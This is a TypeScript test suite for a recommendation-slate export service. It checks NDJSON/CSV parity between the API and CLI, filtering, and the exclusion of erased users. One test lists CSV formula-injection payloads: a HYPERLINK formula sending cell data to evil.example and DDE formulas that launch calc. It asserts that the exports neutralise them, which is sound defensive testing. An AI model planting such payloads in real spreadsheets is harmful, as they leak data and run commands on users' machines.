/**
 * Batch export: the origin's GET /v1/export (source=slates) and `npm run export` stream the same rows — the
 * slates the nightly job wrote to KV, i.e. what the edge serves — filtered by version and segment. CSV cells
 * a spreadsheet would run as formulas (OWASP: starting with = + - @ tab CR) are neutralised by both.
 */
import { rm } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { slateKey, versionMetaKey } from '../../shared/kv/keys.ts';
import { markErased } from '../../adapters/postgres/repository.ts';
import type { KvWriter } from '../../shared/kv/writer.ts';
import { NAMESPACE_ID, openKv, slateOf, writeVersion } from '../edge/support.ts';
import { spawnScript, tempDir } from '../nightly/helpers.ts';
import { API_KEY, createTestDatabase, deleteRedisPrefix, REDIS_URL, startOrigin, uniqueId, type RunningOrigin } from '../origin/support.ts';

let db: { url: string; drop: () => Promise<void> };
let origin: RunningOrigin;
let kv: KvWriter;
let persistTo = '';
const auth = { 'x-api-key': API_KEY };
const prefix = `${uniqueId('exp')}:`;

beforeAll(async () => {
  persistTo = await tempDir('export-kv');
  kv = await openKv(persistTo);
  const now = Date.now();
  // u0 and u1 are catalogue users (seeded into the users table); their segments come from there.
  await writeVersion(kv, 'vexp', [
    [{ kind: 'user', id: 'u0' }, slateOf('vexp', ['i1', 'i2'], now, 'Picked for you')],
    [{ kind: 'user', id: 'u1' }, slateOf('vexp', ['i3', 'i4'], now, 'Picked for you')],
    [{ kind: 'segment', name: 'gamers' }, slateOf('vexp', ['i5'], now, 'Popular with gamers')],
    [{ kind: 'popular' }, slateOf('vexp', ['i6', 'i7'], now, 'Popular right now')],
  ], []);
  await kv.close();
  db = await createTestDatabase();
  process.env.KV_PERSIST_DIR = persistTo;
  process.env.KV_NAMESPACE_ID = NAMESPACE_ID;
  origin = await startOrigin({ DATABASE_URL: db.url, REDIS_URL, REDIS_KEY_PREFIX: prefix, SLATES_KV: 'local' });
}, 120_000);

afterAll(async () => {
  await origin?.close();
  await db?.drop();
  await deleteRedisPrefix(prefix);
  if (persistTo) await rm(persistTo, { recursive: true, force: true });
  delete process.env.KV_PERSIST_DIR;
  delete process.env.KV_NAMESPACE_ID;
});

describe('export of the written slates', () => {
  it('streams the same NDJSON rows from the origin as npm run export', async () => {
    const response = await fetch(`${origin.url}/v1/export`, { headers: auth });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('ndjson');
    const fromOrigin = (await response.text()).trim().split('\n').map((l) => JSON.parse(l) as { subject: string; id: string; items: { id: string }[] });
    const cli = await spawnScript('scripts/export.ts', ['--persist-to', persistTo, '--namespace-id', NAMESPACE_ID]).done;
    expect(cli.code).toBe(0);
    const fromCli = cli.stdout.trim().split('\n').map((l) => JSON.parse(l) as { subject: string; id: string });
    expect(fromOrigin).toEqual(fromCli);
    expect(fromOrigin.map((r) => `${r.subject}:${r.id}`).sort()).toEqual(['popular:popular', 'segment:gamers', 'user:u0', 'user:u1']);
    expect(fromOrigin.find((r) => r.id === 'u0')?.items.map((i) => i.id)).toEqual(['i1', 'i2']);
  });

  it('filters by segment and version, writes CSV, and answers 404 for an unknown version', async () => {
    const segmentOfU0 = ((await (await fetch(`${origin.url}/v1/export?format=ndjson`, { headers: auth })).text()).trim().split('\n')
      .map((l) => JSON.parse(l) as { id: string; segment: string | null }).find((r) => r.id === 'u0'))?.segment;
    expect(segmentOfU0).toBeTruthy();
    const filtered = (await (await fetch(`${origin.url}/v1/export?segment=${segmentOfU0}&version=vexp`, { headers: auth })).text()).trim().split('\n').map((l) => JSON.parse(l) as { id: string; segment: string | null });
    expect(filtered.every((r) => r.segment === segmentOfU0)).toBe(true);
    expect(filtered.map((r) => r.id)).toContain('u0');
    const csv = await (await fetch(`${origin.url}/v1/export?format=csv&kind=segment`, { headers: auth })).text();
    expect(csv.split('\n')[0]).toBe('version,model_version,subject,id,segment,rank,item_id,score,reason');
    expect(csv).toContain('vexp,');
    expect((await fetch(`${origin.url}/v1/export?version=nope`, { headers: auth })).status).toBe(404);
    expect((await fetch(`${origin.url}/v1/export?bogus=1`, { headers: auth })).status).toBe(400);
  });
});

describe('CSV formula injection (issue 12.7)', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTabbed title', '\rCarriage title'];

  it('neutralises every cell starting with = + - @ tab or CR, in GET /v1/export and npm run export alike', async () => {
    const writer = await openKv(persistTo);
    const now = Date.now();
    // A finished version that is not live (meta written, pointer untouched): exported by name.
    await writer.putMany([
      ...HOSTILE.map((reason, n) => ({ key: slateKey('vinj', { kind: 'user', id: `u${n}` }), value: slateOf('vinj', ['i1', 'i2'], now, reason) })),
      { key: slateKey('vinj', { kind: 'segment', name: '-gamers' }), value: slateOf('vinj', ['i3'], now, '=1+1') },
      { key: versionMetaKey('vinj'), value: JSON.stringify({ version: 'vinj' }) },
    ]);
    await writer.close();
    const fromOrigin = await (await fetch(`${origin.url}/v1/export?version=vinj&format=csv`, { headers: auth })).text();
    const cli = await spawnScript('scripts/export.ts', ['--persist-to', persistTo, '--namespace-id', NAMESPACE_ID, '--version', 'vinj', '--format', 'csv']).done;
    expect(cli.code, cli.stderr).toBe(0);
    for (const csv of [fromOrigin, cli.stdout]) {
      const rows = parseCsv(csv, { relax_column_count: false }) as string[][];
      expect(rows[0]).toEqual(['version', 'model_version', 'subject', 'id', 'segment', 'rank', 'item_id', 'score', 'reason']);
      const data = rows.slice(1);
      expect(data).toHaveLength(HOSTILE.length * 2 + 1);
      for (const row of data) {
        expect(row).toHaveLength(9);
        for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      }
      // The text is kept, only made inert: each hostile reason appears with the ' prefix.
      const reasons = new Set(data.map((r) => r[8]));
      for (const reason of HOSTILE) expect(reasons).toContain(`'${reason}`);
      expect(data.find((r) => r[2] === 'segment')).toEqual(expect.arrayContaining(["'-gamers", "'=1+1"]));
    }
  }, 60_000);
});

describe('erased users', () => {
  it('are left out of both exports (npm run export asks the erasure marker when DATABASE_URL is set)', async () => {
    await markErased(await origin.service.database.get(), 'u1');
    const fromOrigin = (await (await fetch(`${origin.url}/v1/export?version=vexp&kind=user`, { headers: auth })).text()).trim().split('\n').map((l) => (JSON.parse(l) as { id: string }).id);
    const cli = await spawnScript('scripts/export.ts', ['--persist-to', persistTo, '--namespace-id', NAMESPACE_ID, '--version', 'vexp', '--kind', 'user'], { DATABASE_URL: db.url }).done;
    expect(cli.code, cli.stderr).toBe(0);
    const fromCli = cli.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { id: string }).id);
    expect(fromOrigin).toEqual(['u0']);
    expect(fromCli).toEqual(['u0']);
  }, 60_000);
});
